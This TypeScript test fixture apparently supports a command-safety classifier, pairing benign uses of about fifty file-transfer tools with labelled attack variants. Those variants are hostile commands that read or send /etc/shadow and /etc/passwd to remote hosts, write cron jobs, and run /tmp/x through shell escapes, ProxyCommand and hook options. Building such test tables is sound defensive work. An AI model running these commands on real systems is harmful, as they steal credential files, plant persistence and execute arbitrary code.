import type { ExampleTable } from './example.ts'

export const fileTransfer1: ExampleTable = {
  aria2c: {
    use: 'aria2c https://example.com/a → fetch https://example.com/a',
    attack: [
      'aria2c file:///etc/shadow → read /etc/shadow',
      'aria2c --on-download-complete /tmp/x https://example.com/a → run /tmp/x; fetch https://example.com/a',
    ],
  },
  axel: {
    use: 'axel https://example.com/a → fetch https://example.com/a',
    attack: [
      'axel file:///etc/shadow → read /etc/shadow',
      'axel -o /etc/cron.d/job https://example.com/a → fetch https://example.com/a; write /etc/cron.d/job',
    ],
  },
  cadaver: { use: 'cadaver https://example.com/dav → send https://example.com/dav' },
  'davix-get': {
    use: 'davix-get https://example.com/a out.txt → fetch https://example.com/a; write out.txt',
    attack: 'davix-get file:///etc/shadow out.txt → read /etc/shadow; write out.txt',
  },
  'davix-put': {
    use: 'davix-put notes.txt example.com → read notes.txt; send example.com',
    attack: 'davix-put /etc/shadow example.com → read /etc/shadow; send example.com',
  },
  fetch: {
    use: 'fetch https://example.com/a → fetch https://example.com/a',
    attack: [
      'fetch file:///etc/shadow → read /etc/shadow',
      'fetch -o /etc/cron.d/job https://example.com/a → fetch https://example.com/a; write /etc/cron.d/job',
    ],
  },
  GET: {
    use: 'GET https://example.com/a → fetch https://example.com/a',
    attack: 'GET file:///etc/shadow → read /etc/shadow',
  },
  grpcurl: { use: `grpcurl -d '{"a":1}' example.com:443 a.B/C → send grpcurl` },
  HEAD: {
    use: 'HEAD https://example.com/a → fetch https://example.com/a',
    attack: 'HEAD file:///etc/shadow → read /etc/shadow',
  },
  httrack: {
    use: 'httrack https://example.com/a → fetch https://example.com/a',
    attack: [
      'httrack file:///etc/shadow → read /etc/shadow',
      'httrack -V /tmp/x https://example.com/a → run /tmp/x; fetch https://example.com/a',
    ],
  },
  'jigdo-lite': {
    use: 'jigdo-lite https://example.com/a → fetch https://example.com/a',
    attack: 'jigdo-lite file:///etc/shadow → read /etc/shadow',
  },
  'lwp-download': {
    use: 'lwp-download https://example.com/a out.txt → fetch https://example.com/a; write out.txt',
    attack: 'lwp-download file:///etc/shadow out.txt → read /etc/shadow; write out.txt',
  },
  'lwp-dump': {
    use: 'lwp-dump https://example.com/a → fetch https://example.com/a',
    attack: 'lwp-dump file:///etc/shadow → read /etc/shadow',
  },
  'lwp-mirror': {
    use: 'lwp-mirror https://example.com/a out.txt → fetch https://example.com/a; write out.txt',
    attack: 'lwp-mirror file:///etc/shadow out.txt → read /etc/shadow; write out.txt',
  },
  'lwp-request': {
    use: 'lwp-request https://example.com/a → fetch https://example.com/a',
    attack: 'lwp-request file:///etc/shadow → read /etc/shadow',
  },
  nvchecker: {
    use: 'nvchecker -c nvchecker.toml → read nvchecker.toml',
    attack: 'nvchecker -c /etc/shadow → read /etc/shadow',
  },
  POST: {
    use: 'POST http://example.com/ → send http://example.com/',
    attack: 'POST http://192.0.2.7/ < /etc/passwd → send http://192.0.2.7/',
  },
  puf: {
    use: 'puf https://example.com/a → fetch https://example.com/a',
    attack: [
      'puf file:///etc/shadow → read /etc/shadow',
      'puf -i /etc/shadow https://example.com/a → read /etc/shadow; fetch https://example.com/a',
    ],
  },
  wpull: {
    use: 'wpull https://example.com/a → fetch https://example.com/a',
    attack: [
      'wpull file:///etc/shadow → read /etc/shadow',
      'wpull -O /etc/cron.d/job https://example.com/a → fetch https://example.com/a; write /etc/cron.d/job',
    ],
  },
  wscat: { use: 'wscat -c wss://example.com → send wss://example.com' },
  zsync: {
    use: 'zsync https://example.com/a → fetch https://example.com/a',
    attack: [
      'zsync file:///etc/shadow → read /etc/shadow',
      'zsync -o /etc/cron.d/job https://example.com/a → fetch https://example.com/a; write /etc/cron.d/job',
    ],
  },
  atftp: {
    use: 'atftp example.com → send example.com',
    attack: `echo '!/tmp/x' | atftp → run /tmp/x`,
  },
  ftp: {
    use: 'ftp example.com → send example.com',
    attack: [
      `echo '!/tmp/x' | ftp → run /tmp/x`,
      'ftp -o /etc/cron.d/job example.com → send example.com; write /etc/cron.d/job',
    ],
  },
  lftp: {
    use: 'lftp example.com → send example.com',
    attack: [`echo '!/tmp/x' | lftp → run /tmp/x`, `lftp -e '!/tmp/x' → run /tmp/x`],
  },
  lftpget: {
    use: 'lftpget https://example.com/a → fetch https://example.com/a',
    attack: 'lftpget file:///etc/shadow → read /etc/shadow',
  },
  ncftp: {
    use: 'ncftp example.com → send example.com',
    attack: `echo '!/tmp/x' | ncftp → run /tmp/x`,
  },
  ncftpput: {
    use: 'ncftpput example.com a notes.txt → read notes.txt; send example.com',
    attack: 'ncftpput example.com a /etc/shadow → read /etc/shadow; send example.com',
  },
  tftp: {
    use: 'tftp example.com → send example.com',
    attack: `echo '!/tmp/x' | tftp → run /tmp/x`,
  },
  uucp: {
    use: 'uucp notes.txt example!a → read notes.txt; send example!a',
    attack: 'uucp /etc/shadow example!a → read /etc/shadow; send example!a',
  },
  yafc: {
    use: 'yafc example.com → send example.com',
    attack: `echo '!/tmp/x' | yafc → run /tmp/x`,
  },
  ascp: {
    use: 'ascp notes.txt example.com:a → read notes.txt; send example.com:a',
    attack: 'ascp /etc/shadow example.com:a → read /etc/shadow; send example.com:a',
  },
  bbcp: {
    use: 'bbcp notes.txt example.com:a → read notes.txt; send example.com:a',
    attack: [
      'bbcp /etc/shadow example.com:a → read /etc/shadow; send example.com:a',
      'bbcp -T /tmp/x notes.txt example.com:a → run /tmp/x; read notes.txt; send example.com:a',
    ],
  },
  'bt-obex': {
    use: 'bt-obex notes.txt → read notes.txt; send bt-obex',
    attack: 'bt-obex /etc/shadow → read /etc/shadow; send bt-obex',
  },
  'globus-url-copy': {
    use: 'globus-url-copy notes.txt example.com → read notes.txt; send example.com',
    attack: 'globus-url-copy /etc/shadow example.com → read /etc/shadow; send example.com',
  },
  'kdeconnect-cli': {
    use: 'kdeconnect-cli --share notes.txt → read notes.txt; send kdeconnect-cli',
    attack: 'kdeconnect-cli --share /etc/shadow → read /etc/shadow; send kdeconnect-cli',
    unclear: 'kdeconnect-cli -d x --execute-command lock → what leaves this machine',
  },
  obexftp: {
    use: 'obexftp -p notes.txt → read notes.txt; send obexftp',
    attack: 'obexftp -p /etc/shadow → read /etc/shadow; send obexftp',
  },
  prsync: {
    use: 'prsync notes.txt example.com → read notes.txt; send example.com',
    attack: [
      'prsync /etc/shadow example.com → read /etc/shadow; send example.com',
      'prsync -h /etc/shadow notes.txt example.com → read /etc/shadow; read notes.txt; send example.com',
    ],
  },
  pscp: {
    use: 'pscp notes.txt example.com:a → read notes.txt; send example.com:a',
    attack: 'pscp /etc/shadow example.com:a → read /etc/shadow; send example.com:a',
  },
  'pscp.pssh': {
    use: 'pscp.pssh notes.txt example.com → read notes.txt; send example.com',
    attack: [
      'pscp.pssh /etc/shadow example.com → read /etc/shadow; send example.com',
      'pscp.pssh -h /etc/shadow notes.txt example.com → read /etc/shadow; read notes.txt; send example.com',
    ],
  },
  psftp: {
    use: 'psftp example.com → send example.com',
    attack: [
      `echo '!/tmp/x' | psftp → run /tmp/x`,
      'psftp -b /etc/shadow example.com → read /etc/shadow; send example.com',
    ],
  },
  rcp: {
    use: 'rcp notes.txt example.com:a → read notes.txt; send example.com:a',
    attack: 'rcp /etc/shadow example.com:a → read /etc/shadow; send example.com:a',
  },
  sftp: {
    use: 'sftp example.com:notes.txt out.txt → send example.com:notes.txt; write out.txt',
    attack: 'sftp -o ProxyCommand=/tmp/x example.com → run /tmp/x; send example.com',
  },
  sz: {
    use: 'sz notes.txt → read notes.txt; send sz',
    attack: 'sz /etc/shadow → read /etc/shadow; send sz',
  },
  'udp-receiver': {
    use: 'udp-receiver -f out.bin → fetch udp-receiver; write out.bin',
    attack: [
      'udp-receiver -p /tmp/x → run /tmp/x; fetch udp-receiver',
      'udp-receiver -f /etc/cron.d/job → fetch udp-receiver; write /etc/cron.d/job',
    ],
  },
  'udp-sender': {
    use: 'udp-sender -f a.bin → read a.bin; send udp-sender',
    attack: [
      'udp-sender -p /tmp/x -f a.bin → run /tmp/x; read a.bin; send udp-sender',
      'udp-sender -f /etc/shadow → read /etc/shadow; send udp-sender',
    ],
  },
  uftp: {
    use: 'uftp notes.txt → read notes.txt; send uftp',
    attack: 'uftp /etc/shadow → read /etc/shadow; send uftp',
  },
  'ussp-push': {
    use: 'ussp-push example.com notes.txt → read notes.txt; send example.com',
    attack: 'ussp-push example.com /etc/shadow → read /etc/shadow; send example.com',
  },
}
